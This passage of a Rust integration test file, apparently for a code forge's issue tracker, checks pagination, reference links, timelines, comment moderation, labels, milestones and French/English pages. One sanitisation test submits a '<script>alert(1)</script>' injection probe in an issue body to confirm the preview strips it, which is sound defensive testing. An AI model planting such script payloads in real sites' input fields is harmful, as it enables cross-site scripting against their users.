        assert_eq!(page.status, StatusCode::OK);
        assert_eq!(listed(&page, "coop/open").len(), 25);
        // A broken cursor starts again, and says so.
        let page = b
            .get("/coop/open/issues?sort=recentupdate&after=garbage")
            .await;
        assert_eq!(page.status, StatusCode::OK);
        assert!(page.contains("That page link has expired"));
        assert_eq!(listed(&page, "coop/open").len(), 25);
        // The repository's tabs show the count.
        assert!(page.contains("<a href=\"/coop/open/issues\" aria-current=\"true\">Issues"));
        let home = b.get("/coop/open").await;
        assert_eq!(home.status, StatusCode::OK);
        assert!(
            home.contains("href=\"/coop/open/issues\""),
            "the code pages link the issues"
        );
    }
}

#[tokio::test]
async fn an_empty_tracker_says_what_to_do_next() {
    for forge in TestForge::on_each_engine().await {
        let w = world(forge).await;
        let mut anonymous = w.browser(None, "en").await;
        let page = anonymous.get("/coop/open/issues").await;
        assert!(page.contains("No issues yet."));
        assert!(page.contains("Sign in to open the first issue"));
        let mut reader = w.browser(Some("outsider"), "en").await;
        let page = reader.get("/coop/open/issues").await;
        assert!(page.contains("href=\"/coop/open/issues/new\">Open the first issue"));
        // Opening it through the form.
        let got = reader
            .post(
                "/coop/open/issues",
                &[("title", "  First!  "), ("body", "Hello")],
            )
            .await;
        assert_eq!(got.status, StatusCode::SEE_OTHER);
        assert_eq!(got.location.as_deref(), Some("/coop/open/issues/1"));
        let page = reader.get("/coop/open/issues/1").await;
        assert!(page.contains("First!"));
        // A missing title comes back with the error next to the field.
        let got = reader
            .post(
                "/coop/open/issues",
                &[("title", " "), ("body", "kept text")],
            )
            .await;
        assert_eq!(got.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(got.contains("An issue needs a title."));
        assert!(got.contains("aria-describedby=\"issue-title-error\" aria-invalid=\"true\""));
        assert!(got.contains(">kept text</textarea>"));
        // Labels sent by someone who does not maintain are ignored.
        let got = reader
            .post(
                "/coop/open/issues",
                &[("title", "Sneaky"), ("label", "1"), ("assignees", "member")],
            )
            .await;
        assert_eq!(got.status, StatusCode::SEE_OTHER);
        let found = w.get_issue(&w.open, 2).await;
        assert!(
            issue::assignees_of(&w.forge.db, found.id)
                .await
                .unwrap()
                .is_empty()
        );
    }
}

#[tokio::test]
async fn references_become_links() {
    for forge in TestForge::on_each_engine().await {
        let w = world(forge).await;
        let first = w.issue(&w.open, &w.author, "First", "one").await;
        w.issue(&w.secret, &w.maint, "Secret", "two").await;
        let body = "Like #1 and coop/secret#1, thanks @member, done in 1a2b3c4d5e. `#1` stays.";
        let n = w.issue(&w.open, &w.author, "Second", body).await;
        let found = w.get_issue(&w.open, n).await;
        comment::create(
            &w.forge.db,
            &w.member,
            &w.open,
            &found,
            "See #2 and @author",
        )
        .await
        .unwrap();
        let mut b = w.browser(None, "en").await;
        let page = b.get(&format!("/coop/open/issues/{n}")).await;
        for link in [
            "<a href=\"/coop/open/issues/1\" rel=\"nofollow noopener\">#1</a>",
            "<a href=\"/coop/secret/issues/1\" rel=\"nofollow noopener\">coop/secret#1</a>",
            "<a href=\"/member\" rel=\"nofollow noopener\">@member</a>",
            "<a href=\"/coop/open/commit/1a2b3c4d5e\" rel=\"nofollow noopener\">1a2b3c4d5e</a>",
            "<a href=\"/coop/open/issues/2\" rel=\"nofollow noopener\">#2</a>",
            "<a href=\"/author\" rel=\"nofollow noopener\">@author</a>",
            "<code>#1</code>",
        ] {
            assert!(page.contains(link), "{link} missing");
        }
        // The issue referred to shows where it was mentioned.
        let page = b.get(&format!("/coop/open/issues/{first}")).await;
        assert!(page.contains("mentioned this issue in <a href=\"/coop/open/issues/2\">#2</a>"));
    }
}

// ---------------------------------------------------------------------------
// The timeline

/// Asserts that `needles` appear in `haystack` in this order.
fn assert_in_order(haystack: &str, needles: &[&str]) {
    let mut from = 0;
    for needle in needles {
        match haystack[from..].find(needle) {
            Some(at) => from += at + needle.len(),
            None => panic!("{needle:?} missing after position {from}"),
        }
    }
}

#[tokio::test]
async fn the_timeline_tells_what_happened_in_order() {
    for forge in TestForge::on_each_engine().await {
        let w = world(forge).await;
        let db = w.forge.db.clone();
        let bug = label::create(
            &db,
            &w.maint,
            &w.open,
            LabelInput {
                name: "bug".into(),
                color: "#d73a4a".into(),
                description: String::new(),
            },
        )
        .await
        .unwrap();
        let v1 = milestone::create(
            &db,
            &w.maint,
            &w.open,
            MilestoneInput {
                title: "v1".into(),
                ..MilestoneInput::default()
            },
        )
        .await
        .unwrap();
        let mut maint = w.browser(Some("maint"), "en").await;
        let bug_id = bug.id.0.to_string();
        let v1_id = v1.id.0.to_string();
        let got = maint
            .post(
                "/coop/open/issues",
                &[
                    ("title", "Crash on save"),
                    ("body", "It crashes."),
                    ("label", &bug_id),
                    ("milestone", &v1_id),
                    ("assignees", "@member, author"),
                ],
            )
            .await;
        assert_eq!(got.location.as_deref(), Some("/coop/open/issues/1"));
        let issue = "/coop/open/issues/1";
        type Step<'a> = (String, Vec<(&'a str, &'a str)>, &'a str);
        let steps: Vec<Step> = vec![
            (
                format!("{issue}/comments"),
                vec![("body", "First comment")],
                "#comment-",
            ),
            (format!("{issue}/labels"), vec![], "#sidebar-labels"),
            (
                format!("{issue}/milestone"),
                vec![("milestone", "")],
                "#sidebar-milestone",
            ),
            (
                format!("{issue}/assignees"),
                vec![("assignees", "member")],
                "#sidebar-assignees",
            ),
            (
                format!("{issue}/edit"),
                vec![("title", "Crash when saving"), ("body", "It crashes.")],
                "#issue-body",
            ),
            (
                format!("{issue}/lock"),
                vec![("locked", "1")],
                "#sidebar-lock",
            ),
            (
                format!("{issue}/lock"),
                vec![("locked", "0")],
                "#sidebar-lock",
            ),
            (
                format!("{issue}/state"),
                vec![("action", "close"), ("reason", "not_planned")],
                "#issue-state",
            ),
            (
                format!("{issue}/state"),
                vec![("action", "reopen")],
                "#issue-state",
            ),
        ];
        for (path, fields, anchor) in &steps {
            let got = maint.post(path, fields).await;
            assert_eq!(got.status, StatusCode::SEE_OTHER, "{path}");
            let location = got.location.unwrap_or_default();
            assert!(
                location.starts_with(&format!("{issue}{anchor}")),
                "{path} → {location}"
            );
        }
        // A commit closes it, another mentions it.
        commit_refs::apply(
            &db,
            &w.open,
            Some(&w.maint),
            &[
                PushedCommit {
                    id: "0123456789abcdef0123456789abcdef01234567".into(),
                    message: "Fixes #1".into(),
                },
                PushedCommit {
                    id: "89abcdef0123456789abcdef0123456789abcdef".into(),
                    message: "About #1".into(),
                },
            ],
            true,
        )
        .await
        .unwrap();
        let page = maint.get(issue).await;
        let text = visible_text(&page.body);
        let text = text.split_whitespace().collect::<Vec<_>>().join(" ");
        assert_in_order(
            &text,
            &[
                "maint opened this issue",
                "maint added this issue to the milestone v1",
                "maint added the label bug",
                "maint assigned member",
                "maint assigned author",
                "maint commented",
                "First comment",
                "maint removed the label bug",
                "maint removed this issue from the milestone v1",
                "maint unassigned author",
                "maint changed the title from “Crash on save” to “Crash when saving”",
                "maint locked the conversation",
                "maint unlocked the conversation",
                "maint closed this issue as not planned",
                "maint reopened this issue",
                "maint closed this issue with the commit 0123456789",
                "maint mentioned this issue in the commit 89abcdef01",
            ],
        );
        assert!(
            page.contains("href=\"/coop/open/commit/0123456789abcdef0123456789abcdef01234567\"")
        );
        assert!(page.contains("Closed as completed"));
        assert!(page.contains("<span class=\"label-chip lc-d73a4a\">bug</span>"));
        assert!(page.contains("/-/assets/labels.css?c=d73a4a"));
        // Closing needs a known reason.
        let got = maint
            .post(&format!("{issue}/state"), &[("action", "reopen")])
            .await;
        assert_eq!(got.status, StatusCode::SEE_OTHER);
        let got = maint
            .post(
                &format!("{issue}/state"),
                &[("action", "close"), ("reason", "bored")],
            )
            .await;
        assert_eq!(got.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(got.contains("aria-describedby=\"close-reason-error\" aria-invalid=\"true\""));
        assert!(!w.get_issue(&w.open, 1).await.closed);
        let got = maint
            .post(
                &format!("{issue}/state"),
                &[("action", "close"), ("reason", "duplicate")],
            )
            .await;
        assert_eq!(got.status, StatusCode::SEE_OTHER);
        let page = maint.get(issue).await;
        assert!(page.contains("Closed as a duplicate"));
        assert!(page.contains("Reopen the issue"));
        // The list shows it closed, with its label gone and no milestone.
        let list = maint.get("/coop/open/issues?state=closed").await;
        assert_eq!(listed(&list, "coop/open"), vec![1]);
        // Unknown assignees come back as an error.
        let got = maint
            .post(&format!("{issue}/assignees"), &[("assignees", "ghost")])
            .await;
        assert_eq!(got.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(got.contains("There is no user with this name."));
        assert!(got.contains("value=\"ghost\""));
    }
}

#[tokio::test]
async fn mentions_from_private_repositories_stay_private() {
    for forge in TestForge::on_each_engine().await {
        let w = world(forge).await;
        w.issue(&w.open, &w.author, "Public", "one").await;
        w.issue(&w.secret, &w.maint, "Secret plan", "About coop/open#1")
            .await;
        let mut anonymous = w.browser(None, "en").await;
        let page = anonymous.get("/coop/open/issues/1").await;
        assert!(!page.contains("coop/secret"), "an outsider learns nothing");
        let mut member = w.browser(Some("member"), "en").await;
        let page = member.get("/coop/open/issues/1").await;
        assert!(page.contains("href=\"/coop/secret/issues/1\">coop/secret#1</a>"));
    }
}

// ---------------------------------------------------------------------------
// Comments

#[tokio::test]
async fn comments_are_edited_hidden_and_deleted_by_the_right_people() {
    for forge in TestForge::on_each_engine().await {
        let w = world(forge).await;
        w.issue(&w.open, &w.author, "Broken", "Body").await;
        let issue = "/coop/open/issues/1";
        let mut author = w.browser(Some("author"), "en").await;
        let mut member = w.browser(Some("member"), "en").await;
        let mut maint = w.browser(Some("maint"), "en").await;

        let got = author
            .post(&format!("{issue}/comments"), &[("body", "My words")])
            .await;
        let location = got.location.unwrap();
        assert!(
            location.starts_with(&format!("{issue}#comment-")),
            "{location}"
        );
        let id: i64 = location.rsplit('-').next().unwrap().parse().unwrap();
        let page = author.get(issue).await;
        assert!(page.contains(&format!("id=\"comment-{id}\"")));
        assert!(page.contains(&format!("id=\"issuecomment-{id}\"")));
        // An empty comment is refused next to its field, nothing added.
        let got = member
            .post(&format!("{issue}/comments"), &[("body", "   ")])
            .await;
        assert_eq!(got.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(got.contains("A comment cannot be empty."));
        assert!(got.contains(
            "aria-describedby=\"new-comment-hint new-comment-error\" aria-invalid=\"true\""
        ));

        // Its author edits it; nobody else does.
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
        let edit = format!("{issue}/comments/{id}/edit");
        let got = author.post(&edit, &[("body", "My better words")]).await;
        assert_eq!(
            got.location.as_deref(),
            Some(format!("{issue}#comment-{id}").as_str())
        );
        let page = member.get(issue).await;
        assert!(page.contains("My better words"));
        assert!(page.contains("(edited)"));
        for other in [&mut member, &mut maint] {
            let got = other.post(&edit, &[("body", "Not yours")]).await;
            assert_eq!(got.status, StatusCode::FORBIDDEN);
        }
        let got = author.post(&edit, &[("body", "")]).await;
        assert_eq!(got.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(got.contains(&format!(
            "aria-describedby=\"comment-{id}-error\" aria-invalid=\"true\""
        )));
        assert!(got.contains("<details class=\"edit-form\" open>"));

        // Maintainers hide it: readers see that it was hidden, not its text.
        let got = member
            .post(&format!("{issue}/comments/{id}/hide"), &[("hidden", "1")])
            .await;
        assert_eq!(got.status, StatusCode::FORBIDDEN);
        let got = maint
            .post(&format!("{issue}/comments/{id}/hide"), &[("hidden", "1")])
            .await;
        assert_eq!(
            got.location.as_deref(),
            Some(format!("{issue}#comment-{id}").as_str())
        );
        for viewer in [&mut member, &mut author] {
            let page = viewer.get(issue).await;
            assert!(page.contains("This comment was hidden by a maintainer."));
            assert!(!page.contains("My better words"));
        }
        let mut anonymous = w.browser(None, "en").await;
        assert!(!anonymous.get(issue).await.contains("My better words"));
        let page = maint.get(issue).await;
        assert!(page.contains("Hidden by a maintainer: show the comment"));
        assert!(page.contains("My better words"));
        assert!(page.contains("Show this comment again"));
        let got = maint
            .post(&format!("{issue}/comments/{id}/hide"), &[("hidden", "0")])
            .await;
        assert_eq!(got.status, StatusCode::SEE_OTHER);
        assert!(member.get(issue).await.contains("My better words"));

        // Deleting asks first.
        let confirm = author.get(&format!("{issue}/comments/{id}/delete")).await;
        assert_eq!(confirm.status, StatusCode::OK);
        assert!(confirm.contains("Yes, delete this comment"));
        assert!(confirm.contains("My better words"));
        assert!(has_form(&confirm, &format!("{issue}/comments/{id}/delete")));
        let got = member
            .post(&format!("{issue}/comments/{id}/delete"), &[])
            .await;
        assert_eq!(got.status, StatusCode::FORBIDDEN);
        let got = author
            .post(&format!("{issue}/comments/{id}/delete"), &[])
            .await;
        assert_eq!(
            got.location.as_deref(),
            Some(format!("{issue}#timeline").as_str())
        );
        assert!(!member.get(issue).await.contains("My better words"));
        // Maintainers delete anyone's.
        let got = member
            .post(&format!("{issue}/comments"), &[("body", "Spam spam")])
            .await;
        let spam: i64 = got
            .location
            .unwrap()
            .rsplit('-')
            .next()
            .unwrap()
            .parse()
            .unwrap();
        let got = maint
            .post(&format!("{issue}/comments/{spam}/delete"), &[])
            .await;
        assert_eq!(got.status, StatusCode::SEE_OTHER);
        assert!(!member.get(issue).await.contains("Spam spam"));
        assert_eq!(w.get_issue(&w.open, 1).await.comment_count, 0);

        // A locked issue takes comments from maintainers only.
        let got = maint
            .post(&format!("{issue}/lock"), &[("locked", "1")])
            .await;
        assert_eq!(got.status, StatusCode::SEE_OTHER);
        let page = member.get(issue).await;
        assert!(page.contains("This issue is locked: only maintainers may comment."));
        assert!(!has_form(&page, &format!("{issue}/comments")));
        let got = member
            .post(&format!("{issue}/comments"), &[("body", "Let me in")])
            .await;
        assert_eq!(got.status, StatusCode::FORBIDDEN);
        let got = maint
            .post(&format!("{issue}/comments"), &[("body", "Maintainer note")])
            .await;
        assert_eq!(got.status, StatusCode::SEE_OTHER);
        let page = maint.get(issue).await;
        assert!(page.contains("you may comment because you maintain the repository"));
        // The author edits the title and description.
        let got = author
            .post(
                &format!("{issue}/edit"),
                &[("title", "Broken badly"), ("body", "More detail, see #1")],
            )
            .await;
        assert_eq!(got.status, StatusCode::SEE_OTHER);
        let found = w.get_issue(&w.open, 1).await;
        assert_eq!(found.title, "Broken badly");
        let got = author
            .post(
                &format!("{issue}/edit"),
                &[("title", ""), ("body", "lost?")],
            )
            .await;
        assert_eq!(got.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(got.contains("aria-describedby=\"edit-title-error\" aria-invalid=\"true\""));
        assert!(got.contains(">lost?</textarea>"), "the text typed is kept");
    }
}

// ---------------------------------------------------------------------------
// Labels and milestones

#[tokio::test]
async fn maintainers_manage_labels_and_milestones() {
    for forge in TestForge::on_each_engine().await {
        let w = world(forge).await;
        let mut maint = w.browser(Some("maint"), "en").await;
        let page = maint.get("/coop/open/labels").await;
        assert!(page.contains("create the first one below"));
        assert!(page.contains("type=\"color\""));

        let got = maint
            .post(
                "/coop/open/labels",
                &[
                    ("name", "bug"),
                    ("color", "#D73A4A"),
                    ("color_picker", "#1d76db"),
                    ("color_was", "#1d76db"),
                    ("description", "Something is wrong"),
                ],
            )
            .await;
        assert_eq!(got.status, StatusCode::SEE_OTHER);
        let location = got.location.unwrap();
        assert!(
            location.starts_with("/coop/open/labels#label-"),
            "{location}"
        );
        let id = location.rsplit('-').next().unwrap().to_string();
        let page = maint.get("/coop/open/labels").await;
        assert!(page.contains("<span class=\"label-chip lc-d73a4a\">bug</span>"));
        assert!(page.contains("Something is wrong"));
        assert!(page.contains("href=\"/-/assets/labels.css?c=d73a4a\""));
        assert!(page.contains(&format!(
            "href=\"/coop/open/issues?state=all&#38;label={id}\""
        )));

        // Only the picker changed: the picker's colour wins.
        let got = maint
            .post(
                &format!("/coop/open/labels/{id}/edit"),
                &[
                    ("name", "defect"),
                    ("color", "#d73a4a"),
                    ("color_picker", "#00ff00"),
                    ("color_was", "#d73a4a"),
                ],
            )
            .await;
        assert_eq!(got.status, StatusCode::SEE_OTHER);
        let labels = label::list(&w.forge.db, w.open.id).await.unwrap();
        assert_eq!(
            (labels[0].name.as_str(), labels[0].color.as_str()),
            ("defect", "#00ff00")
        );

        // Mistakes come back next to their field.
        let got = maint
            .post(
                "/coop/open/labels",
                &[("name", "Defect"), ("color", "#abcdef")],
            )
            .await;
        assert_eq!(got.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(got.contains("This repository already has a label with this name."));
        assert!(got.contains("aria-describedby=\"new-label-name-error\" aria-invalid=\"true\""));
        let got = maint
            .post(
                &format!("/coop/open/labels/{id}/edit"),
                &[
                    ("name", "defect"),
                    ("color", "reddish"),
                    ("color_was", "#00ff00"),
                    ("color_picker", "#00ff00"),
                ],
            )
            .await;
        assert_eq!(got.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(got.contains(&format!("aria-describedby=\"label-{id}-color-hint label-{id}-color-error\" aria-invalid=\"true\"")));
        assert!(got.contains("value=\"reddish\""));

        // Milestones.
        let page = maint.get("/coop/open/milestones").await;
        assert!(page.contains("create the first one below"));
        let got = maint
            .post(
                "/coop/open/milestones",
                &[("title", "Spring release"), ("due", "2026-02-30")],
            )
            .await;
        assert_eq!(got.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(got.contains("Write the date as year-month-day"));
        assert!(got.contains("value=\"Spring release\""));
        let got = maint
            .post(
                "/coop/open/milestones",
                &[
                    ("title", "Spring release"),
                    ("due", "2026-03-31"),
                    ("description", "For #1"),
                ],
            )
            .await;
        assert_eq!(got.status, StatusCode::SEE_OTHER);
        let m = milestone::list(&w.forge.db, w.open.id)
            .await
            .unwrap()
            .remove(0);
        let page = maint.get("/coop/open/milestones").await;
        assert!(page.contains("<time datetime=\"2026-03-31T23:59:59"));
        // People read the date in words, in their language.
        assert!(page.contains("31 March 2026</time>"), "{}", page.body);
        assert!(page.contains("No issues yet"));
        assert!(
            page.contains("href=\"/coop/open/issues/1\""),
            "descriptions are Markdown with references"
        );
        // Progress: one of two closed.
        for title in ["One", "Two"] {
            let n = w.issue(&w.open, &w.author, title, "").await;
            let found = w.get_issue(&w.open, n).await;
            let changes = IssueChanges {
                milestone: Some(Some(m.id)),
                state: (title == "One").then_some(Some(issue::CloseReason::Completed)),
                ..IssueChanges::default()
            };
            issue::update(&w.forge.db, &w.maint, &w.open, &found, changes)
                .await
                .unwrap();
        }
        let page = maint.get("/coop/open/milestones").await;
        assert!(page.contains(&format!(
            "<progress id=\"milestone-{}-progress\" max=\"2\" value=\"1\">",
            m.id.0
        )));
        assert!(page.contains("1 of 2 closed (50%)"));
        let got = maint
            .post(
                &format!("/coop/open/milestones/{}/state", m.id.0),
                &[("closed", "1")],
            )
            .await;
        assert_eq!(got.status, StatusCode::SEE_OTHER);
        assert!(
            milestone::get(&w.forge.db, w.open.id, m.id)
                .await
                .unwrap()
                .unwrap()
                .closed
        );
        let got = maint
            .post(
                &format!("/coop/open/milestones/{}/edit", m.id.0),
                &[
                    ("title", "Summer release"),
                    ("due", ""),
                    ("description", ""),
                ],
            )
            .await;
        assert_eq!(got.status, StatusCode::SEE_OTHER);
        let edited = milestone::get(&w.forge.db, w.open.id, m.id)
            .await
            .unwrap()
            .unwrap();
        assert_eq!(
            (edited.title.as_str(), edited.due_at, edited.closed),
            ("Summer release", None, true)
        );
        // The list filters by it, with "(closed)" in its name.
        let page = maint.get("/coop/open/issues").await;
        assert!(page.contains("Summer release (closed)"));
        let page = maint
            .get(&format!("/coop/open/issues?state=all&milestone={}", m.id.0))
            .await;
        assert_eq!(listed(&page, "coop/open"), vec![2, 1]);
        // Deleting.
        let got = maint
            .post(&format!("/coop/open/milestones/{}/delete", m.id.0), &[])
            .await;
        assert_eq!(got.location.as_deref(), Some("/coop/open/milestones"));
        assert!(
            milestone::list(&w.forge.db, w.open.id)
                .await
                .unwrap()
                .is_empty()
        );
        let got = maint
            .post(&format!("/coop/open/labels/{id}/delete"), &[])
            .await;
        assert_eq!(got.location.as_deref(), Some("/coop/open/labels"));
        assert!(
            label::list(&w.forge.db, w.open.id)
                .await
                .unwrap()
                .is_empty()
        );
        // Gone is gone.
        let got = maint
            .post(&format!("/coop/open/labels/{id}/delete"), &[])
            .await;
        assert_eq!(got.status, StatusCode::NOT_FOUND);
    }
}

// ---------------------------------------------------------------------------
// Languages

#[tokio::test]
async fn pages_speak_french_and_english() {
    for forge in TestForge::on_each_engine().await {
        let w = world(forge).await;
        let db = w.forge.db.clone();
        let n = w.issue(&w.open, &w.author, "Bug", "Body").await;
        let found = w.get_issue(&w.open, n).await;
        let l = label::create(
            &db,
            &w.maint,
            &w.open,
            LabelInput {
                name: "bug".into(),
                color: "#d73a4a".into(),
                description: String::new(),
            },
        )
        .await
        .unwrap();
        issue::set_labels(&db, &w.maint, &w.open, &found, &[l.id])
            .await
            .unwrap();
        milestone::create(
            &db,
            &w.maint,
            &w.open,
            MilestoneInput {
                title: "v1".into(),
                ..MilestoneInput::default()
            },
        )
        .await
        .unwrap();
        comment::create(&db, &w.member, &w.open, &found, "Hello")
            .await
            .unwrap();
        issue::update(
            &db,
            &w.maint,
            &w.open,
            &found,
            IssueChanges {
                state: Some(Some(issue::CloseReason::NotPlanned)),
                ..IssueChanges::default()
            },
        )
        .await
        .unwrap();
        let pages = [
            "/coop/open/issues",
            "/coop/open/issues?state=closed",
            "/coop/open/issues?assignee=nobody",
            "/coop/open/issues/1",
            "/coop/open/issues/new",
            "/coop/open/labels",
            "/coop/open/milestones",
            "/coop/open/issues/1/comments/1/delete",
        ];
        for (lang, expected) in [
            (
                "fr",
                &[
                    "Tickets ouverts",
                    "Filtrer et trier",
                    "Personne ne s’appelle «\u{a0}nobody\u{a0}».",
                    "Ajouter un commentaire",
                    "Fermé\u{a0}: non prévu",
                    "a ajouté le libellé",
                    "Nouveau ticket",
                    "Libellés",
                    "Jalons",
                    "Oui, supprimer ce commentaire",
                ][..],
            ),
            (
                "en",
                &[
                    "Open issues",
                    "Filter and sort",
                    "Nobody is called “nobody”.",
                    "Add a comment",
                    "Closed as not planned",
                    "added the label",
                    "New issue",
                    "Labels",
                    "Milestones",
                    "Yes, delete this comment",
                ][..],
            ),
        ] {
            for who in [None, Some("maint")] {
                let mut b = w.browser(who, lang).await;
                let mut all = String::new();
                for path in pages {
                    let page = b.get(path).await;
                    if who.is_none() && path.ends_with("/delete") {
                        continue;
                    }
                    if who.is_none() && path.ends_with("/new") {
                        assert_eq!(page.status, StatusCode::SEE_OTHER);
                        continue;
                    }
                    assert_eq!(page.status, StatusCode::OK, "{path} in {lang}");
                    assert!(page.contains(&format!("<html lang=\"{lang}\">")));
                    assert_no_raw_keys(&page, &format!("{path} in {lang} for {who:?}"));
                    assert_inert(&page, path);
                    all.push_str(&page.body);
                }
                if who.is_some() {
                    for text in expected {
                        assert!(all.contains(text), "{text:?} missing in {lang}");
                    }
                }
            }
        }
    }
}

#[tokio::test]
async fn the_new_issue_form_previews_without_storing_and_keeps_every_choice() {
    for forge in TestForge::on_each_engine().await {
        let w = world(forge).await;
        let bug = label::create(
            &w.forge.db,
            &w.maint,
            &w.open,
            LabelInput {
                name: "bug".into(),
                color: "d73a4a".into(),
                description: String::new(),
            },
        )
        .await
        .unwrap();
        let mut maint = w.browser(Some("maint"), "fr").await;
        let form = maint.get("/coop/open/issues/new").await;
        assert!(form.contains("name=\"preview\""), "{}", form.body);
        assert!(
            form.contains("name=\"label\""),
            "maintainers choose labels on the form"
        );
        assert!(form.contains("name=\"milestone\""));
        assert!(form.contains("name=\"assignees\""));
        // The create button comes first: Enter in the title creates the issue.
        let create = form.body.find("Ouvrir le ticket").unwrap_or(usize::MAX);
        let preview = form.body.find(">Aperçu</button>").unwrap();
        assert!(create < preview, "{}", form.body);

        let bug_id = bug.id.0.to_string();
        let page = maint
            .post(
                "/coop/open/issues",
                &[
                    ("title", "Export en CSV"),
                    (
                        "body",
                        "## Besoin\n\n> cité\n\n**gras** <script>alert(1)</script>",
                    ),
                    ("label", &bug_id),
                    ("assignees", "member"),
                    ("preview", "1"),
                ],
            )
            .await;
        assert_eq!(page.status, StatusCode::OK, "{}", page.body);
        assert!(page.contains("Aperçu de la description"));
        assert!(page.contains("<strong>gras</strong>"), "{}", page.body);
        assert!(page.contains("<blockquote>"), "{}", page.body);
        assert!(
            !page.contains("<script>alert(1)"),
            "the preview is sanitised"
        );
        assert!(page.contains("value=\"Export en CSV\""), "the title stays");
        assert!(page.contains("value=\"member\""), "the assignees stay");
        assert!(
            page.contains(&format!("value=\"{bug_id}\" checked")),
            "the chosen label stays chosen"
        );
        assert!(
            issue::get(&w.forge.db, w.open.id, 1)
                .await
                .unwrap()
                .is_none(),
            "a preview stores nothing"
        );
        let page = maint
            .post(
                "/coop/open/issues",
                &[("title", "Vide"), ("body", "  "), ("preview", "1")],
            )
            .await;
        assert!(page.contains("La description est vide"), "{}", page.body);

        // Then the same values open the issue.
        let page = maint
            .post(
                "/coop/open/issues",
                &[
                    ("title", "Export en CSV"),
                    ("body", "**gras**"),
                    ("label", &bug_id),
                    ("assignees", "member"),
                ],
            )
            .await;
        assert_eq!(page.status, StatusCode::SEE_OTHER, "{}", page.body);
        let created = w.get_issue(&w.open, 1).await;
        assert_eq!(created.title, "Export en CSV");
        assert_eq!(
            issue::assignees_of(&w.forge.db, created.id)
                .await
                .unwrap()
                .len(),
            1
        );
    }
}
